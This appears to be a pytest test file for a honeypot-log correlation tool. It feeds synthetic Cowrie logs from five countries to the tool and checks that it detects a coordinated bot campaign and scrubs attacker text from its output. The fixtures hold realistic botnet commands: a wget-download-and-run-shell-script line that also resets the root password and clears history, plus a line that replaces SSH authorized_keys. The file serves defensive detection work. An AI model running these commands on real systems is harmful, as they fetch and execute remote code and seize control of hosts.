"""Logs of Cowrie in, a campaign out that nothing tells but what was typed: text stays behind."""

from __future__ import annotations

import json
from pathlib import Path
from random import Random
from typing import Any

import pytest

from tests.unit.inside import sightline

RULE = Path(__file__).parents[2] / "deploy" / "rules" / "source_address.yml"
COUNTRIES = ("AT", "BR", "CZ", "DE", "KE")
REGISTRY = "".join(
    f'[[organisation]]\nid = "o-{c.lower()}"\ncountry = "{c}"\nname = "{c}"\n'
    f'[[organisation.sensor]]\nid = "{c.lower()}-1"\n'
    for c in COUNTRIES
)
BOTS = [f"45.148.{n}.24" for n in range(10, 14)]
SECRET = "Hunter2-clear"
SCRIPT = (
    f"cd /tmp || cd /var/run || cd /mnt; wget http://%s/%s.sh -O %s; chmod 777 %s; sh %s; rm -rf %s; "
    f"echo root:{SECRET}%d | chpasswd; history -c"
)
COMMON = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "cd ~ && rm -rf .ssh && mkdir .ssh && echo k >> .ssh/authorized_keys && chmod -R go= ~/.ssh",
    "free -m | grep Mem | awk '{print $2}'; ls -lh $(which ls); which ls; crontab -l; w; top",
)


def line(hour: float, ip: str, command: str) -> str:
    day, seconds = divmod(round(hour * 3_600), 86_400)
    clock = f"{seconds // 3_600:02}:{seconds // 60 % 60:02}:{seconds % 60:02}"
    return json.dumps(
        {
            "eventid": "cowrie.command.input",
            "input": command,
            "message": f"CMD: {command}",
            "sensor": "hp",
            "timestamp": f"2025-01-{15 + day}T{clock}.000000Z",
            "src_ip": ip,
            "session": f"{ip}-{hour}",
        }
    )


def typed(dice: Random) -> dict[str, list[tuple[float, str]]]:
    """By country, what its honeypot logs, with when. Nobody meets anybody."""
    logs: dict[str, list[tuple[float, str]]] = {country: [] for country in COUNTRIES}
    for n in range(300):
        ip, at = f"31.{n // 200 + 1}.{n % 200}.7", dice.uniform(0, 60)
        for country in dice.sample(COUNTRIES, 3):
            logs[country].append((at, line(at, ip, dice.choice(COMMON))))
    for n, ip in enumerate(BOTS):
        for country in COUNTRIES:
            at = 5 + 11 * n + dice.uniform(0, 0.9)
            name = f"{dice.randrange(16**6):06x}"
            command = SCRIPT % (ip, name, name, name, name, name, dice.randrange(99))
            logs[country].append((at, line(at, ip, command)))
    return logs


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    at = tmp_path_factory.mktemp("typed")
    (at / "sensors.toml").write_text(REGISTRY)
    events: list[bytes] = []
    for country, lines in typed(Random(3)).items():
        (at / f"{country}.json").write_text("".join(f"{one}\n" for _, one in sorted(lines)))
        done = sightline(
            *("convert", "--format", "cowrie", "--sensor", f"{country.lower()}-1"),
            f"{country}.json",
            cwd=at,
        )
        assert done.returncode == 0, done.stderr
        events += done.stdout.encode().splitlines()
    events.sort(key=lambda event: json.loads(event)["time"])
    (at / "events.jsonl").write_bytes(b"".join(event + b"\n" for event in events))
    done = sightline(
        *("correlate", "--sensors", "sensors.toml", "--rules", str(RULE)),
        *("--input", "events.jsonl", "--output", "alerts.jsonl", "--campaigns", "told.jsonl"),
        cwd=at,
    )
    assert " 0 rejected, 0 late" in done.stderr
    return at


def test_a_campaign_is_found_by_near_equal_commands_alone(folder: Path) -> None:
    (campaign,) = [json.loads(one) for one in (folder / "told.jsonl").read_text().splitlines()]
    assert [one["value"] for one in campaign["indicators"]] == BOTS
    assert campaign["countries"] == list(COUNTRIES)
    for reason in campaign["reasons"]:
        assert reason["why"].endswith(": near-equal commands, which came with 4 of 300")
        assert reason["p"] < 1e-6


def test_no_text_of_theirs_leaves_the_sensor(folder: Path) -> None:
    told: list[dict[str, Any]] = [
        json.loads(one) for one in (folder / "events.jsonl").read_text().splitlines()
    ]
    said = {event["process"]["cmd_line"] for event in told}
    assert (
        "cd /tmp || cd /var/run || cd /mnt ; wget URL -O WORD ; chmod 777 WORD ; sh WORD ; "
        "rm -rf WORD ; echo WORD | chpasswd ; history -c"
    ) in said
    assert len(said) == 1 + len(COMMON)
    for name in ("events.jsonl", "alerts.jsonl", "told.jsonl"):
        assert SECRET not in (folder / name).read_text()
